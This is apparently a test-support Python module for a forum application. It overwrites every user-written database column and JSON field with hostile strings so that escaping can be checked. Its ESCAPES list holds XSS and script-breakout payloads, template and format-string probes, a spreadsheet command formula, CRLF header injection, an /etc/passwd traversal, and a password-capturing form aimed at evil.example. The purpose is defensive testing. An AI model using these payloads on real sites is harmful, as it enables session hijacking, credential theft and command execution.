"""Texts of somebody who means harm: put in every field, written in every row, looked for in every page."""

import json
import re
from collections import defaultdict
from collections.abc import Iterator
from typing import Any

from sqlalchemy import JSON, Column, Enum, String, Table, UniqueConstraint, select, update

from forum.discussion.models import Post
from forum.discussion.rules import ALT_LONGEST
from forum.kernel.database import Base, db
from forum.panels.form_rules import NAME_LONGEST
from forum.texts.markdown import render
from tests.texts.xss_vectors import VECTORS

ESCAPES = [
    '"><img src=x onerror=alert(1)>',
    "'><svg onload=alert(1)>",
    "\"'></textarea></title></script>--><img src=x onerror=alert(1)>",
    '" autofocus onfocus=alert(1) x="',
    "' onmouseover=alert(1) x='",
    "</option></select><script>alert(1)</script>",
    "</a></p></form><form action=//evil.example><input name=password>",
    "]]></script><script>alert(1)</script>",
    '"},{"x":"</script><script>alert(1)</script>',
    "{{7191*7}} ${7191*7} #{7191*7} <%= 7191*7 %> {%print(7191*7)%}",
    "%s %(name)s %n {0} {name} {0.__class__} {",
    "javascript:alert(1)",
    "//evil.example/\\..",
    "\u202egnorw\u202c \u2066\u200b\u200f\ufeff\u2028\u2029<b>x",
    "=cmd|' /C calc'!A0",
    "x\r\nSet-Cookie: x=1\r\n\r\n<script>alert(1)</script>",
    "&lt;img src=x onerror=alert(1)&gt;&#0;&nbsp;&",
    "@<img/src/onerror=alert(1)> #<b onclick=alert(1)>x",
    "\U0001f47e\u0301\u0301\u0301\u0301 \ud7ff\uffff <i onclick=alert(1)>",
    "../../etc/passwd%00<svg/onload=alert(1)>.png",
]
"""Ways out of where a short text stands: an attribute, a title, a choice, data for a script, a template."""

_MACHINE_VALUE = re.compile(r"[a-z_]*|[\d ,.:-]*")
"""A state, a moment, numbers of rows: what a column of words holds when the machine filled it."""

_CONTROL = re.compile("[\x00-\x08\x0b\x0c\x0e-\x1f]")
CORPUS = [_CONTROL.sub("", text) for text in (*ESCAPES, *VECTORS)]
LONGEST = 900
"""Of a text without a limit of its own."""
JSON_LONGEST = NAME_LONGEST
"""Of a text in a column of JSON: what may be the name of a group of seats, so that its form is still read."""

CALCULATED = str(7191 * 7)

MACHINE = frozenset(
    {
        "account.password_hash",
        "activation_code.code_hash",
        "activation_code.email",
        "advice_case.form_key",
        "advice_document.key",
        "audit_entry.action",
        "audit_entry.party",
        "audit_entry.sha256",
        "ballot.choices",
        "candidate.pseudonym",
        "conclusion.form_key",
        "dossier_entry.sha256",
        "household.postcode",
        "invitation.pseudonym",
        "invitation_link.code_hash",
        "invitation_link.token_hash",
        "login_session.token_hash",
        "meeting.door_code",
        "meeting.uid",
        "meeting_document.key",
        "member.email",
        "member.external_key",
        "member.interface_language",
        "member.language",
        "member.number",
        "member.phone",
        "notification.about",
        "notification.event",
        "notification.key",
        "notification.path",
        "notification.subject",
        "outbox_message.key",
        "outbox_message.address",
        "outbox_message.template",
        "panel.explained_sha256",
        "panel.pseudonym_key",
        "panel.secret",
        "panel_form.key",
        "panel_guest.token_hash",
        "picture.key",
        "post.external_key",
        "post.form_key",
        "post.html",
        "post.pictures",
        "post.renderer",
        "post.text_key",
        "post_revision.html",
        "score_snapshot.facts_sha256",
        "score_snapshot.policy_name",
        "sign_in_attempt.address_hash",
        "sign_in_attempt.name_hash",
        "slip.code",
        "slip.form_key",
        "thread.introduction_html",
        "thread_summary.html",
        "thread_visit.read_beyond",
        "unreachable_address.address",
    }
)
"""Columns of text that no person can put their own words in: keys, hashes, what the renderer made."""

RENDERED = {
    "thread.introduction": "introduction_html",
    "thread_summary.text": "html",
    "post.text": "html",
    "post_revision.text": "html",
}
"""Columns whose text is kept as HTML beside it."""


_RULES = frozenset(
    {"chair", "criteria", "fixed_points", "name", "observers", "open_points", "purpose"},
)

WORDS_IN_JSON: dict[str, frozenset[str]] = {
    "application_rating.marks": frozenset(),
    "audit_entry.details": frozenset({"group", "name", "reason", "words"}),
    "dossier_entry.body": frozenset(
        {"complex", "criteria", "district", "full", "group", "name", "public_source"}
    ),
    "frozen_score.parts": frozenset(),
    "frozen_score.why_not": frozenset(),
    "outbox_message.details": frozenset({"reason", "text"}),
    "panel.rules": _RULES,
    "panel_form.defaults": _RULES,
    "panel_supply.body": frozenset(),
    "score_snapshot.policy": frozenset(),
}
"""Columns of JSON, each with the keys below which persons put their own words."""


def written_columns() -> list[Column[Any]]:
    """Return every column that holds the words of a person."""
    return [column for column in text_columns() if str(column) not in MACHINE]


def text_columns() -> list[Column[Any]]:
    """Return every column of text there is; a state is none."""
    return [
        column
        for table in Base.metadata.sorted_tables
        for column in table.columns
        if isinstance(column.type, String) and not isinstance(column.type, Enum)
    ]


def json_columns() -> list[Column[Any]]:
    """Return every column of JSON there is."""
    tables = Base.metadata.sorted_tables
    return [column for table in tables for column in table.columns if isinstance(column.type, JSON)]


def hostile_texts(longest: int) -> Iterator[str]:
    """Yield without end texts of at most a length, each another part of the corpus."""
    parts = [part for part in CORPUS if len(part) <= longest] or [part[:longest] for part in CORPUS]
    text = ""
    while True:
        for part in parts:
            joined = f"{text}\n\n{part}" if longest > 300 else f"{text} {part}"
            if text and len(joined) > longest:
                yield text
                joined = part
            text = joined if text else part


def write_in_every_row() -> None:
    """Put in every row, in the place of what persons wrote, what somebody who means harm might have."""
    by_table: dict[Table, list[Column[Any]]] = {}
    for column in written_columns():
        by_table.setdefault(column.table, []).append(column)
    for table, columns in by_table.items():
        _write_in(table, columns)
    for column in json_columns():
        if WORDS_IN_JSON[str(column)]:
            _write_in_json(column, WORDS_IN_JSON[str(column)])
    _write_below_pictures()


def _write_in(table: Table, columns: list[Column[Any]]) -> None:
    keys = list(table.primary_key.columns)
    texts = {column.name: hostile_texts(_longest(column)) for column in columns}
    unique = _unique_names(table)
    html: dict[str, str] = {}
    for number, row in enumerate(db.session.execute(select(*keys, *columns)).mappings().all()):
        values = {}
        for column in columns:
            if row[column.name] is None or _MACHINE_VALUE.fullmatch(row[column.name]):
                continue
            text = next(texts[column.name])
            if column.name in unique:
                text = f"{text[: _longest(column) - 6]} {number}"
            values[column.name] = text
            beside = RENDERED.get(str(column))
            if beside:
                html[text] = html.get(text) or render(text).html
                values[beside] = html[text]
        if values:
            here = [key == row[key.name] for key in keys]
            db.session.execute(update(table).where(*here).values(values))


def _write_in_json(column: Column[Any], keys: frozenset[str]) -> None:
    """Put hostile words below these keys; what was the same before is the same after it."""
    texts = hostile_texts(JSON_LONGEST)
    written: dict[str, str] = defaultdict(lambda: next(texts))

    def replaced(value: Any, *, is_of_person: bool) -> Any:
        if isinstance(value, dict):
            return {key: replaced(below, is_of_person=key in keys) for key, below in value.items()}
        if isinstance(value, list):
            return [replaced(below, is_of_person=is_of_person) for below in value]
        return written[value] if is_of_person and isinstance(value, str) and value else value

    [key] = column.table.primary_key.columns
    for number, value in db.session.execute(select(key, column)).all():
        changed = {column.name: replaced(value, is_of_person=False)}
        db.session.execute(update(column.table).where(key == number).values(changed))


def _write_below_pictures() -> None:
    """Put hostile words in what a post says of its pictures."""
    texts = hostile_texts(ALT_LONGEST)
    for post in db.session.scalars(select(Post).where(Post.pictures != "")):
        post.pictures = json.dumps(
            [(key, next(texts), *size) for key, _alt, *size in json.loads(post.pictures)]
        )


def _longest(column: Column[Any]) -> int:
    """Return how many characters fit in a column; of a long text as many as a page shows at once."""
    return getattr(column.type, "length", None) or LONGEST


def _unique_names(table: Table) -> set[str]:
    pairs = [rule.columns for rule in table.constraints if isinstance(rule, UniqueConstraint)]
    pairs += [index.columns for index in table.indexes if index.unique]
    return {column.name for columns in pairs for column in columns}
